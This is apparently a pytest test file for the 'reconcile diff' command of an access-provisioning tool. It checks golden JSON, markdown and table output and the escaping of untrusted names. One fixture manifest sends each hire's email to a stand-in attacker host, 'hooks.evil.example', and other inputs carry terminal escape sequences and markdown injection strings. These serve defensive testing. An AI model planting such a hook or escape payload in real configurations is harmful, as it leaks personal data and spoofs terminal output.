"""`reconcile diff`: golden outputs, and what a stranger's text must not do to a comment."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from reconciler.cli.output.difference import LIMIT, as_markdown, as_table
from reconciler.cli.output.text import code
from reconciler.model.errors import Problem
from reconciler.model.grant import Key
from reconciler.review.causes import ChangeKind
from reconciler.review.consequences import Change
from reconciler.review.difference import Difference
from reconciler.review.problems import Host
from tests.cli.conftest import Call
from tests.repo import Repo, run_cli


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return Repo(tmp_path / "repo")


@pytest.fixture
def branch(repo: Repo) -> tuple[str, str]:
    """Base and head of a pull request with something of everything."""
    asana = {
        "form": [{"id": "TEAM_ID", "type": "input"}],
        "exists": {"url": "https://app.asana.com/users/{{email}}", "expected": "{{email}}"},
        "execute": [{"url": "https://app.asana.com/teams/{{TEAM_ID}}"}],
    }
    repo.manifest("asana", asana)
    repo.manifest("old", {"execute": [{"url": "https://old.example.com/"}]})
    repo.hire("ada", {"integration": "asana", "values": {"TEAM_ID": "1"}}, "old")
    repo.write("hires/eve.yaml", "email: eve\nfirst_name: Eve\nlast_name: Example\n")
    base = repo.commit("before")
    repo.manifest("asana", {**asana, "headers": {"Accept": "application/json"}})
    repo.manifest("new", {"execute": [{"url": "https://hooks.evil.example/{{email}}"}]})
    repo.remove("manifests/old.yaml")
    repo.hire("ada", {"integration": "asana", "values": {"TEAM_ID": "2"}, "needs": ["new"]}, "new")
    repo.hire("eve")
    repo.hire("bob", "asna")
    repo.settings(prune="revoke", state="sqlite:///.reconciler/state.db", listen="127.0.0.1:8080")
    return base, repo.commit("after")


PLAIN: dict[str, Any] = {
    **dict.fromkeys(("starts", "ends", "removal", "stays", "applied", "former")),
    "privileged": {},
}


HEADERS = {"headers": [None, {"Accept": "application/json"}]}


def cause(kind: str, what: str, file: str | None, people: int, grants: int, **counts: Any) -> dict[str, Any]:
    found = {"kind": kind, "what": what, "file": file, "people": people, "grants": grants}
    found["parts"] = counts.get("parts", {})
    return {**found, "added": counts.get("added", {}), "removed": counts.get("removed", {})}


def test_json_has_the_shape_of_the_contract(repo: Repo, branch: tuple[str, str], call: Call) -> None:
    done = call(repo, "diff", branch[0], "--output", "json")
    assert done.code == 1, "a file at HEAD has an error"
    assert done.json == {
        "base": branch[0],
        "head": branch[1],
        "grants": [
            {
                "hire": "ada",
                "access": "asana",
                "integration": "asana",
                "change": "changed",
                "fields": {"values.TEAM_ID": ["1", "2"], "needs": [None, ["new"]]},
                **PLAIN,
                "applied": "not_updated",
            },
            {"hire": "ada", "access": "new", "integration": "new", "change": "added", "fields": {}, **PLAIN},
            {
                **PLAIN,
                "hire": "ada",
                "access": "old",
                "integration": "old",
                "change": "removed",
                "fields": {},
                "removal": "reported",
                "stays": "manifest",
            },
            {"hire": "bob", "access": "asna", "integration": "asna", "change": "added", "fields": {}, **PLAIN},
        ],
        "causes": [
            cause("hire", "ada", "hires/ada.yaml", 1, 2, added={"new": 1}, removed={"old": 1}) | {"grants": 3},
            cause("hire", "bob", "hires/bob.yaml", 1, 1, added={"asna": 1}),
            cause("manifest", "asana: headers", "manifests/asana.yaml", 1, 1, parts=HEADERS),
            cause("settings", "prune: report → revoke", "config/reconciler.yaml", 2, 3),
        ],
        "held": [],
        "hosts": {"added": ["hooks.evil.example"], "removed": ["old.example.com"]},
        "problems": {
            "added": [
                {
                    "file": "hires/bob.yaml",
                    "line": 5,
                    "severity": "error",
                    "message": "access asna: there is no manifests/asna.yaml: did you mean asana?",
                }
            ],
            "fixed": [{"file": "hires/eve.yaml", "line": 1, "severity": "error", "message": "email: not an address"}],
        },
        "manifests": {"added": ["new"], "changed": ["asana"], "removed": ["old"]},
        "ignored": [],
        "settings": {"prune": ["report", "revoke"]},
    }


MARKDOWN = """\
**NEW HOST `hooks.evil.example`, 2 grants added, 1 grant changed, 1 grant removed (only reported), 1 manifest added, \
1 manifest changed, 1 manifest removed, 1 setting changed, 1 problem added, 1 problem fixed, 1 host no longer used**

> [!CAUTION]
> Requests, with the secrets in them, would go to a new host: `hooks.evil.example` (`manifests/new.yaml`)

**Problems**

- error in `hires/bob.yaml:5`: `access asna: there is no manifests/asna.yaml: did you mean asana?`

**What changed in the files**

- `hires/bob.yaml` is new: this person joins
- manifest `asana: headers`: concerns 1 grant of 1 person
  - `headers`: nothing → `{"Accept": "application/json"}`
- setting `prune: report → revoke`: concerns 3 grants of 2 people. What becomes of access that left git. \
report: it stays, and is told; revoke: it is taken away.
- manifest `new` is new
- manifest `old` is gone
- host `old.example.com` is no longer used

**1 grant removed**

- `Ada Example (ada)` is no longer to have `old`; it stays, and is only reported: the manifest has no `revoke`

**1 grant changed**

- `Ada Example (ada)` keeps `asana`: `TEAM_ID` `1` → `2`, `needs` nothing → `["new"]` \
(not updated at the service: the manifest has no `update`, so somebody has to do it there)

**2 grants added**

- `Ada Example (ada)` gets `new`
- `Bob Example (bob)` gets `asna`

<details><summary>1 problem fixed</summary>

- error in `hires/eve.yaml:1`: `email: not an address`

</details>

<sub>A grant is one person's access to one service; what is merged is carried out within minutes. *Only reported* \
means that somebody has to take it away at the service. A manifest, such as `manifests/slack.yaml`, holds the requests \
that are sent to a service.</sub>

<!-- reconcile diff -->
"""


def test_markdown_is_a_comment_ready_to_post(repo: Repo, branch: tuple[str, str], call: Call) -> None:
    first = call(repo, "diff", branch[0], "HEAD", "--output", "markdown")
    assert first.out == MARKDOWN
    assert call(repo, "diff", branch[0], "worktree", "--output", "markdown").out == MARKDOWN


TABLE = """\
NEW HOST hooks.evil.example, 2 grants added, 1 grant changed, 1 grant removed (only reported), 1 manifest added, \
1 manifest changed, 1 manifest removed, 1 setting changed, 1 problem added, 1 problem fixed, 1 host no longer used
NEW HOST hooks.evil.example  (manifests/new.yaml)
cause: hires/bob.yaml is new: this person joins
cause: manifest asana: headers: concerns 1 grant of 1 person
  headers: nothing → {"Accept": "application/json"}
cause: setting prune: report → revoke: concerns 3 grants of 2 people. What becomes of access that left git. \
report: it stays, and is told; revoke: it is taken away.
host no longer used: old.example.com
manifest added: new
manifest removed: old
problem added: hires/bob.yaml:5: error: access asna: there is no manifests/asna.yaml: did you mean asana?
problem fixed: hires/eve.yaml:1: error: email: not an address

ada <ada@example.com>
  ~ asana  TEAM_ID 1 → 2, needs nothing → ["new"] \
(not updated at the service: the manifest has no `update`, so somebody has to do it there)
  + new
  - old    it stays, and is only reported: the manifest has no `revoke`

bob <bob@example.com>
  + asna
"""


def test_table(repo: Repo, branch: tuple[str, str], call: Call) -> None:
    assert call(repo, "diff", branch[0]).out == TABLE


def test_the_program_needs_no_key_and_no_network(repo: Repo, branch: tuple[str, str]) -> None:
    """As a CI runner has it: no GnuPG home, no gpg, nothing in the environment."""
    done = run_cli(repo, "diff", branch[0], "--output", "markdown", env={"GNUPGHOME": "/nowhere", "PATH": "/nowhere"})
    assert (done.out, done.err) == (MARKDOWN, "")
    assert not (repo.root / ".reconciler").exists()


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ({}, "(not updated at the service: the manifest has no `update`, so somebody has to do it there)"),
        ({"update": [{"url": "https://api.example.com/u", "data": {"role": "{{ROLE}}"}}]}, "(updated at the service)"),
        (
            {
                "form": [{"id": "ROLE", "type": "input", "identity": True}],
                "exists": {"url": "https://api.example.com/{{ROLE}}/{{email}}", "expected": "{{email}}"},
            },
            (
                "(access to another thing is given; the former one stays, and is only reported: the manifest has no "
                "`revoke`)"
            ),
        ),
    ],
    ids=["no update", "update", "identity"],
)
def test_changed_value_shows_whether_it_is_applied(repo: Repo, call: Call, more: Any, told: str) -> None:
    repo.manifest(
        "roles",
        {
            "form": [{"id": "ROLE", "type": "input"}],
            "exists": {"url": "https://api.example.com/{{email}}", "expected": "{{email}}"},
            "execute": [{"url": "https://api.example.com/u", "data": {"role": "{{ROLE}}"}}],
            **more,
        },
    )
    repo.hire("ada", {"integration": "roles", "values": {"ROLE": "member"}})
    before = repo.commit()
    repo.hire("ada", {"integration": "roles", "values": {"ROLE": "owner"}})
    repo.commit()
    out = call(repo, "diff", before, "HEAD", "--output", "markdown").out
    assert f"**1 grant changed**\n\n- `Ada Example (ada)` keeps `roles`: `ROLE` `member` → `owner` {told}" in out
    assert out.count("1 grant changed") == 1, "the first line is the heading of all there is"
    assert "<details>" not in out


def test_nothing_changes(repo: Repo, branch: tuple[str, str], call: Call) -> None:
    same = call(repo, "diff", branch[1], "HEAD")
    assert same.out == "no grant, host, manifest or setting changes\n"


def test_edits_that_are_not_committed_are_named(repo: Repo, branch: tuple[str, str], call: Call) -> None:
    """With `source: worktree` they are acted on all the same."""
    repo.hire("zoe")
    done = call(repo, "diff", branch[0], "--output", "json")
    assert done.json["ignored"] == ["not committed, and so not compared: hires/zoe.yaml"]
    assert "hires/zoe.yaml" in done.err
    for others in (("diff", branch[1], branch[0]), ("diff", branch[0], "worktree")):
        done = call(repo, *others, "--output", "json")
        assert (done.json["ignored"], done.err) == ([], ""), "what is compared has no edits, or has them in it"


def test_from_before_there_was_anything(tmp_path: Path, call: Call) -> None:
    repo = Repo(tmp_path / "new")
    repo.write("README.md", "soon\n")
    base = repo.commit("first")
    repo.manifest("slack", {"execute": [{"url": "https://slack.com/"}]})
    repo.hire("ada", "slack")
    repo.commit("second")
    done = call(repo, "diff", base)
    assert done.out.startswith("NEW HOST slack.com, 1 grant added, 1 manifest added\n")
    assert done.code == 0


def test_settings_that_cannot_be_read(repo: Repo, branch: tuple[str, str], call: Call) -> None:
    repo.write("config/reconciler.yaml", "intervall: 10m\n")
    repo.commit("typo")
    done = call(repo, "diff", branch[1], "--output", "json")
    assert done.code == 1
    assert done.json["grants"] == []
    assert [problem["file"] for problem in done.json["problems"]["added"]] == ["config/reconciler.yaml"]
    assert call(repo, "diff", branch[1]).out.startswith("the settings of one revision cannot be read")


@pytest.mark.parametrize(
    ("arguments", "code_", "said"),
    [
        (("nowhere",), 1, "there is no such branch, tag or commit"),
        (("HEAD", "HEAD", "--output", "csv"), 64, "status, history, unmanaged, unused, review check and a pass"),
        ((), 64, "Missing argument 'BASE'"),
    ],
    ids=["no-revision", "csv", "no-base"],
)
def test_refusals(
    repo: Repo, branch: tuple[str, str], call: Call, arguments: tuple[str, ...], code_: int, said: str
) -> None:
    done = call(repo, "diff", *arguments)
    assert (done.code, done.out) == (code_, "")
    assert said in done.err


# --- what a stranger writes ------------------------------------------------------------------------------------------


def difference(grants: list[Change], **parts: object) -> Difference:
    empty: dict = {"hosts_added": [], "hosts_removed": [], "problems_added": [], "problems_fixed": []}
    return Difference(base="a", head="b", grants=grants, **{**empty, "manifests": {}, "settings": {}, **parts})


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "`plain`"),
        ("@org/team <b>#1</b>", "`@org/team <b>#1</b>`"),
        ("a`b", "``a`b``"),
        ("`", "`` ` ``"),
        ("```", "```` ``` ````"),
        ("a\n- b", "`a - b`"),
        ("\x1b[2J\u202ex", "`�[2J�x`"),
        ("", "(empty)"),
    ],
    ids=["plain", "mention", "backtick", "only-one", "fence", "newline", "control", "empty"],
)
def test_text_cannot_leave_its_code(text: str, shown: str) -> None:
    assert code(text) == shown


def test_names_are_escaped_for_the_terminal() -> None:
    change = Change(
        Key("a\x1b]0;x\x07", "b\nroot"), "c", ChangeKind.ADDED, {"values.\rX": (None, "\x1b[31m")}, "e@x.com"
    )
    assert all(line.isprintable() for line in as_table(difference([change])).split("\n"))


def many(number: int, *, wide: int = 8, value: str = "v") -> list[Change]:
    return [
        Change(Key(f"{index:0{wide}}", "slack"), "slack", ChangeKind.ADDED, {"values.X": (None, value)})
        for index in range(number)
    ]


HOSTS = [Host(f"h{index}.example.com", ("manifests/m.yaml",), allowed=True) for index in range(5000)]


@pytest.mark.parametrize(
    ("found", "says"),
    [
        (difference(many(400)), "- `00000399` gets `slack` with `X` `v`"),
        (difference(many(1500, value="v" * 60)), "- `00001499`: `slack`"),
        (difference(many(20_000)), "- `slack`: 20000 grants"),
        (difference([Change(Key("a" * 70_000, "b"), "c" * 70_000, ChangeKind.REMOVED)]), "1 grant removed"),
        (difference([], hosts_added=HOSTS), "And 4950 more new hosts."),
        (difference([], hosts_added=[Host("h" * 70_000, ("m",), allowed=False)]), "a name of 70000 characters"),
        (difference([], problems_added=[Problem("f" * 500, 1, "m" * 900)] * 100), "- 100 problems in `fff"),
        (difference([], settings={f"k{n}": ("a" * 100, "b") for n in range(900)}), "900 settings changed"),
    ],
    ids=["all", "by-hire", "by-integration", "a-name", "hosts", "a-host", "problems", "settings"],
)
def test_a_comment_fits_by_telling_less_and_never_by_cutting(found: Difference, says: str) -> None:
    text = as_markdown(found)
    assert len(text) <= LIMIT
    assert says in text
    assert text.count("<details>") == text.count("</details>")
    assert text.endswith("<!-- reconcile diff -->")
